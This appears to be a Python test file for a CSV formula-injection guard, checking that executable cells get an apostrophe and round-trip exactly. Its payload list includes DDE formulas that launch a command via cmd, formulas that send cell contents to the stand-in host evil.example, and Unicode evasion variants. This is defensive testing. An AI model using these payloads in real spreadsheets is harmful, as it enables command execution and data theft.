"""A CSV cell that could be run is marked, and unmarked again to the letter."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from surveys.guarded import as_it_was, guarded, like_a_formula

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"look")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML("http://evil.example","//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\u3000＝1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1",
    "﹢1",
    "﹣1",
    "﹫A1",
    "\u22121",
    "\tno formula after a tab",
)


@pytest.mark.parametrize("cell", FORMULAS, ids=ascii)
def test_what_a_spreadsheet_could_run_begins_with_an_apostrophe(cell):
    assert guarded(cell) == f"'{cell}"
    assert as_it_was(guarded(cell)) == cell


@pytest.mark.parametrize(
    "cell", ["", " ", "not happy", "5 = 5", "<3", "I'm ok", "😀 = happy", "1-2"]
)
def test_other_words_stay_as_they_are(cell):
    assert guarded(cell) == cell


def test_words_that_begin_with_an_apostrophe_keep_theirs():
    assert guarded("'cause I said so") == "''cause I said so"
    assert as_it_was("''cause I said so") == "'cause I said so"


@given(st.text(st.sampled_from("'=+-@＝ \t\r\n\u200ba1"), max_size=6) | st.text())
def test_every_cell_comes_back_and_none_that_is_written_could_be_run(cell):
    written = guarded(cell)
    assert as_it_was(written) == cell
    assert not like_a_formula(written)


def test_the_big_list_of_naughty_strings_comes_back(cases):
    strings = json.loads((cases / "forms" / "ons__blns.json").read_text("utf-8"))
    assert [as_it_was(guarded(words)) for words in strings] == strings
    assert not any(like_a_formula(guarded(words)) for words in strings)
